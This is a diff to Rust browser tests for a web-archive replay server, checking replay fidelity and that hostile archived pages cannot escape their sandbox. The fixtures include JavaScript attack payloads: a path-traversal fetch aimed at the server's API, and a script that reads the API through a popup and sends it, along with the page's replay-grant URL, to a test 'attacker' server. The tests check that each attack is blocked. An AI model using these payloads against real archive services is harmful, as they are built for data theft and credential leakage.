@@ -67,8 +67,14 @@ async fn serve_live_site() -> (SocketAddr, Arc<AtomicUsize>) {
         get(|| async {
             (
                 [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
+                // custody's client script maps a plain fetch of `/api/...`
+                // into the archive; a URL that starts inside the archive and
+                // climbs out of it passes that script, as an attacker's
+                // would, and reaches custody's API itself.
                 "<!DOCTYPE html><html><head><title>live blog</title></head><body><p>Updates</p>\
-                 <script>fetch('/api/v1/captures').then(r => { document.title = 'api:' + r.status; })\
+                 <script>const p = location.pathname, root = p.slice(0, p.indexOf('/replay/') + 8);\
+                 fetch(location.origin + root + '../../../../api/v1/captures')\
+                 .then(r => { document.title = 'api:' + r.status; })\
                  .catch(() => { document.title = 'api:blocked'; });</script></body></html>",
             )
         }),
@@ -169,10 +175,11 @@ async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlig
         serde_json::json!([QUOTE]),
         "{claim_page}"
     );
-    // The replayed article shows its archived images.
+    // The replayed article shows its archived images, in the frame below
+    // the banner.
     let replay = by_path(&format!("/replay/{ts}/{url}"));
     assert!(replay["text"].as_str().unwrap().contains("Archived copy"));
-    let images = replay["images"].as_array().unwrap();
+    let images = framed(replay)["images"].as_array().unwrap();
     assert!(!images.is_empty());
     for img in images {
         // Loaded with the replay grant in the path, never the cookie.
@@ -191,7 +198,7 @@ async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlig
         "/replay/{}/{prying_url}",
         custody::model::timestamp14(&prying.started_at)
     ));
-    assert_eq!(prying["title"], "api:blocked", "{prying}");
+    assert_eq!(framed(prying)["title"], "api:blocked", "{prying}");
     assert_eq!(
         hits.load(Ordering::SeqCst),
         live_hits,
@@ -199,9 +206,47 @@ async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlig
     );
 }
 
+/// Captures each path of the live site, each one `ok`.
+fn captured_ok(work: &Workdir, live: SocketAddr, paths: &[&str]) -> Vec<custody::model::Capture> {
+    paths
+        .iter()
+        .map(|path| {
+            let (c, out) = work.capture(&format!("http://{live}{path}"));
+            assert_eq!(
+                c.status,
+                custody::model::CaptureStatus::Ok,
+                "{path}: {}",
+                stderr_text(&out)
+            );
+            c
+        })
+        .collect()
+}
+
+/// The report of the archived page inside custody's frame page.
+fn framed(report: &Value) -> &Value {
+    let frames = report["frames"].as_array().expect("frames reported");
+    assert_eq!(frames.len(), 1, "one framed page: {report}");
+    &frames[0]
+}
+
 /// Signs in through the UI's login form (the token kept in its cookie),
 /// then loads `paths`; one report per page.
 fn browse_signed_in(server: SocketAddr, token: &str, paths: &[String]) -> Vec<Value> {
+    let login = [
+        "--login".to_string(),
+        format!("http://{server}"),
+        token.to_string(),
+    ];
+    let urls: Vec<String> = paths
+        .iter()
+        .map(|p| format!("http://{server}{p}"))
+        .collect();
+    browse(&[&login[..], &urls[..]].concat())
+}
+
+/// Runs cdp.py with `args` (options, then URLs); one report per URL.
+fn browse(args: &[String]) -> Vec<Value> {
     let chromium = ["chromium", "chromium-browser"]
         .into_iter()
         .find(|c| Command::new(c).arg("--version").output().is_ok())
@@ -210,8 +255,7 @@ fn browse_signed_in(server: SocketAddr, token: &str, paths: &[String]) -> Vec<Va
     let out = Command::new("python3")
         .arg(script)
         .arg(chromium)
-        .args(["--login", &format!("http://{server}"), token])
-        .args(paths.iter().map(|p| format!("http://{server}{p}")))
+        .args(args)
         .output()
         .expect("run cdp.py");
     assert!(out.status.success(), "cdp.py failed: {}", stderr_text(&out));
@@ -238,9 +282,11 @@ async fn serve_attacker() -> (SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
 /// The attacks of issue 13, from a replayed hostile page in Chromium: it
 /// registers a service worker over the site's `id_` replays (which would
 /// then forge another capture), and, on one click, opens the API in a
-/// popup, reads it, and sends it to another server. Both fail: the page is
-/// sandboxed, service worker scripts are refused, and nothing of the API
-/// reaches the attacker.
+/// popup, reads it, and sends it (and its own URL, which holds its replay
+/// grant) to another server, by navigating the top window and its own
+/// frame there. All of it fails: the page is sandboxed, service worker
+/// scripts are refused, and custody's frame page lets its frame navigate
+/// only inside custody, so nothing reaches the attacker.
 #[tokio::test(flavor = "multi_thread")]
 async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothing() {
     let (attacker, stolen) = serve_attacker().await;
@@ -258,6 +304,7 @@ async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothi
            setTimeout(() => {{\
              let t = 'none';\
              try {{ t = w.document.body.innerText; }} catch (e) {{ t = 'unreadable:' + e.name; }}\
+             try {{ top.location = 'http://{attacker}/top?d=' + encodeURIComponent(location.href); }} catch (e) {{}}\
              location = 'http://{attacker}/steal?d=' + encodeURIComponent(t);\
            }}, 1500);\
          }};\
@@ -289,17 +336,7 @@ async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothi
         );
     let live = site::serve_app(app).await;
     let work = Workdir::new("");
-    let mut captured = Vec::new();
-    for path in ["/hostile/", "/sw.js", "/other/"] {
-        let (c, out) = work.capture(&format!("http://{live}{path}"));
-        assert_eq!(
-            c.status,
-            custody::model::CaptureStatus::Ok,
-            "{}",
-            stderr_text(&out)
-        );
-        captured.push(c);
-    }
+    let captured = captured_ok(&work, live, &["/hostile/", "/sw.js", "/other/"]);
     let server = serve(&work, &[]);
     let reader = token(&work, "reader");
     let ts = custody::model::timestamp14(&captured[0].started_at);
@@ -312,13 +349,18 @@ async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothi
 
     // The worker was never registered: the page may not, and its script
     // is refused to a worker's fetch.
-    let replayed = &reports[0];
+    let replayed = framed(&reports[0]);
+    assert_eq!(
+        replayed["location"], "chrome-error://chromewebdata/",
+        "the click ran, and the frame's navigation to the attacker was blocked: {replayed}"
+    );
     assert!(
-        replayed["location"]
+        reports[0]["location"]
             .as_str()
             .unwrap()
-            .starts_with(&format!("http://{attacker}/steal")),
-        "the click ran: {replayed}"
+            .contains(&format!("/replay/{ts}/http://{live}/hostile/")),
+        "the top window stayed on custody's frame page: {}",
+        reports[0]
     );
     let other = &reports[1];
     assert!(
@@ -342,20 +384,246 @@ async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothi
     );
     assert_eq!(refused.status, 403, "{}", refused.text());
 
-    // The popup never opened, so nothing of the API left.
-    let stolen: Vec<String> = stolen
-        .lock()
+    // The popup never opened, and nothing at all reached the attacker.
+    assert_eq!(*stolen.lock().unwrap(), Vec::<String>::new());
+}
+
+/// The pages of the replay-fidelity test (issue 21), on a live site whose
+/// own address some of them name: a fixed navigation bar, an image-CDN
+/// `srcset` with commas in its URLs, an image and a `fetch` built by a
+/// script, and a graph of ES modules that import one another by relative,
+/// root-relative and absolute specifiers.
+async fn serve_fidelity_site() -> SocketAddr {
+    let addr = Arc::new(std::sync::OnceLock::<SocketAddr>::new());
+    fn html(body: String) -> impl axum::response::IntoResponse {
+        ([(header::CONTENT_TYPE, "text/html; charset=UTF-8")], body)
+    }
+    fn js(body: String) -> impl axum::response::IntoResponse {
+        ([(header::CONTENT_TYPE, "text/javascript")], body)
+    }
+    let a1 = addr.clone();
+    let a2 = addr.clone();
+    let a3 = addr.clone();
+    let app = Router::new()
+        .route(
+            "/fixed/",
+            get(move || {
+                let live = *a1.get().unwrap();
+                async move {
+                    html(format!(
+                        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>fixed</title>\
+                         <link rel=\"prefetch\" href=\"/tiles/1.png\"><link rel=\"prefetch\" href=\"/data.json\">\
+                         <style>body{{margin:0;font:16px sans-serif}}\
+                         nav{{position:fixed;top:0;left:0;right:0;height:83px;background:#246;color:#fff}}\
+                         main{{padding-top:100px}}</style></head><body>\
+                         <nav data-custody-measure=\"navbar\">Site navigation</nav><main>\
+                         <p>Nearly 25 civilians were killed.</p>\
+                         <img alt=\"cdn\" sizes=\"300px\" srcset=\"/cdn/image/upload/w_300,c_fill,q_80/photo.png 300w, \
+                         /cdn/image/upload/w_600,c_fill,q_80/photo.png 600w\">\
+                         <img id=\"made\" alt=\"made by a script\"><p id=\"fetched\">not fetched</p>\
+                         <script>var t = window.__custody_test = {{}};\
+                         var img = document.getElementById('made');\
+                         img.onload = function () {{ t.made = img.naturalWidth; }};\
+                         img.onerror = function () {{ t.made = 'error'; }};\
+                         img.src = '/tiles/' + (0 + 1) + '.png';\
+                         fetch('http://{live}/data.json').then(function (r) {{ return r.json(); }})\
+                         .then(function (j) {{ t.fetched = j.text; document.getElementById('fetched').textContent = j.text; }},\
+                         function (e) {{ t.fetched = 'error ' + e; }});</script>\
+                         </main></body></html>"
+                    ))
+                }
+            }),
+        )
+        .route(
+            "/cdn/{*rest}",
+            get(|| async { ([(header::CONTENT_TYPE, "image/png")], png(300, 200, [20, 120, 40])) }),
+        )
+        .route(
+            "/tiles/1.png",
+            get(|| async { ([(header::CONTENT_TYPE, "image/png")], png(256, 256, [200, 200, 40])) }),
+        )
+        .route(
+            "/data.json",
+            get(|| async {
+                (
+                    [(header::CONTENT_TYPE, "application/json")],
+                    r#"{"text": "casualty count: 25"}"#,
+                )
+            }),
+        )
+        .route(
+            "/modules/",
+            get(|| async {
+                html(
+                    "<!DOCTYPE html><html><head><title>modules</title>\
+                     <link rel=\"modulepreload\" href=\"/m/a.js\"><link rel=\"modulepreload\" href=\"/m/b.js\">\
+                     <link rel=\"modulepreload\" href=\"/m/c.js\"><link rel=\"modulepreload\" href=\"/m/shared.js\">\
+                     </head><body><p id=\"out\">loading</p>\
+                     <script type=\"module\" src=\"/m/main.js\"></script></body></html>"
+                        .to_string(),
+                )
+            }),
+        )
+        .route(
+            "/m/main.js",
+            get(move || {
+                let live = *a2.get().unwrap();
+                async move {
+                    js(format!(
+                        "import {{ a }} from './a.js';\nimport {{ b }} from '/m/b.js';\n\
+                         import {{ c }} from 'http://{live}/m/c.js';\nimport {{ count }} from './shared.js';\n\
+                         window.__custody_test = {{ a, b, c, evaluations: count() }};\n\
+                         document.getElementById('out').textContent = [a, b, c].join(' ');\n"
+                    ))
+                }
+            }),
+        )
+        .route(
+            "/m/a.js",
+            get(|| async { js("import './shared.js';\nexport const a = 'a';\n".into()) }),
+        )
+        .route(
+            "/m/b.js",
+            get(|| async { js("import '/m/shared.js';\nexport const b = 'b';\n".into()) }),
+        )
+        .route(
+            "/m/c.js",
+            get(move || {
+                let live = *a3.get().unwrap();
+                async move {
+                    // Later than the page: its record has a later time, which
+                    // replay must not turn into another URL.
+                    tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
+                    js(format!(
+                        "import 'http://{live}/m/shared.js';\nexport const c = 'c';\n"
+                    ))
+                }
+            }),
+        )
+        .route(
+            "/m/shared.js",
+            get(|| async {
+                js("let n = 0;\nexport function count() { return n; }\nn += 1;\n".into())
+            }),
+        );
+    let bound = site::serve_app(app).await;
+    addr.set(bound).unwrap();
+    bound
+}
+
+/// What replay shows is what the live page showed (issue 21), measured in
+/// Chromium on both: a fixed navigation bar is where it was and nothing of
+/// custody's covers it (the banner is above the page's frame); a srcset
+/// whose URLs hold commas, an image and a `fetch` built by the page's
+/// script load from the archive; ES modules imported by relative,
+/// root-relative and absolute specifiers are each requested once and
+/// evaluated once. Nothing is fetched outside custody during replay.
+#[tokio::test(flavor = "multi_thread")]
+async fn in_chromium_replay_shows_what_the_live_page_showed() {
+    let live = serve_fidelity_site().await;
+    let work = Workdir::new("");
+    let stamps: Vec<String> = captured_ok(&work, live, &["/fixed/", "/modules/"])
+        .iter()
+        .map(|c| custody::model::timestamp14(&c.started_at))
+        .collect();
+    let server = serve(&work, &[]);
+    let reader = token(&work, "reader");
+    let live_pages = browse(&[
+        format!("http://{live}/fixed/"),
+        format!("http://{live}/modules/"),
+    ]);
+    let replays = browse_signed_in(
+        server.addr,
+        &reader,
+        &[
+            format!("/replay/{}/http://{live}/fixed/", stamps[0]),
+            format!("/replay/{}/http://{live}/modules/", stamps[1]),
+        ],
+    );
+    let base = format!("http://{}/", server.addr);
+    for r in &replays {
+        for req in r["requests"].as_array().unwrap() {
+            let req = req.as_str().unwrap();
+            assert!(
+                req.starts_with(&base) || req.starts_with("data:"),
+                "{} loaded {req} from outside custody",
+                r["url"]
+            );
+        }
+    }
+
+    // The navigation bar: where it was, below the banner, covered by nothing.
+    let (live_fixed, replay_fixed) = (&live_pages[0], &replays[0]);
+    let frame = framed(replay_fixed);
+    let nav_live = &live_fixed["measured"]["navbar"];
+    let nav = &frame["measured"]["navbar"];
+    for side in ["top", "left", "height", "width"] {
+        assert_eq!(
+            nav[side], nav_live[side],
+            "navbar {side}: {nav} live {nav_live}"
+        );
+    }
+    let banner = &replay_fixed["measured"]["custody-banner"];
+    let frame_box = &replay_fixed["measured"]["custody-frame"];
+    let num = |v: &Value| v.as_f64().unwrap();
+    assert!(num(&banner["height"]) > 0.0, "{replay_fixed}");
+    assert!(
+        num(&frame_box["top"]) + num(&nav["top"]) >= num(&banner["bottom"]),
+        "the navbar starts under the banner: banner {banner}, frame {frame_box}, navbar {nav}"
+    );
+    // The same images decode, the script's image and fetch included.
+    let decoded = |r: &Value| {
+        r["images"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|i| i["naturalWidth"].as_u64().unwrap_or(0) > 0)
+            .count()
+    };
+    assert_eq!(decoded(live_fixed), 2, "{live_fixed}");
+    assert_eq!(decoded(frame), 2, "replay: {frame}");
+    assert_eq!(frame["test"], live_fixed["test"], "replay {frame}");
+    assert_eq!(frame["test"]["made"], 256, "{frame}");
+    assert_eq!(frame["test"]["fetched"], "casualty count: 25", "{frame}");
+    let cdn: Vec<&str> = frame["images"]
+        .as_array()
         .unwrap()
         .iter()
-        .filter(|r| r.starts_with("/steal"))
-        .cloned()
+        .filter_map(|i| i["src"].as_str())
+        .filter(|s| s.contains("/cdn/"))
         .collect();
-    assert_eq!(stolen.len(), 1, "{stolen:?}");
     assert!(
-        stolen[0].contains("unreadable") || stolen[0].ends_with("d=none"),
-        "the attacker received: {stolen:?}"
+        cdn.len() == 1 && cdn[0].contains("/cdn/image/upload/w_300,c_fill,q_80/photo.png"),
+        "{cdn:?}"
     );
-    for c in &captured {
-        assert!(!stolen[0].contains(c.id.as_str()), "{stolen:?}");
+
+    // The modules: the same values, each module requested once, the shared
+    // one evaluated once.
+    let (live_modules, replay_modules) = (&live_pages[1], &replays[1]);
+    let frame = framed(replay_modules);
+    assert_eq!(
+        live_modules["test"],
+        serde_json::json!({"a": "a", "b": "b", "c": "c", "evaluations": 1}),
+        "{live_modules}"
+    );
+    assert_eq!(
+        frame["test"], live_modules["test"],
+        "replay: {replay_modules}"
+    );
+    let requests: Vec<&str> = replay_modules["requests"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|r| r.as_str())
+        .collect();
+    for module in ["main", "a", "b", "c", "shared"] {
+        let path = format!("/m/{module}.js");
+        let n = requests.iter().filter(|r| r.ends_with(&path)).count();
+        assert_eq!(n, 1, "{path} requested {n} times: {requests:#?}");
     }
+    assert_eq!(
+        replay_modules["console_errors"],
+        serde_json::json!([]),
+        "{replay_modules}"
+    );
 }
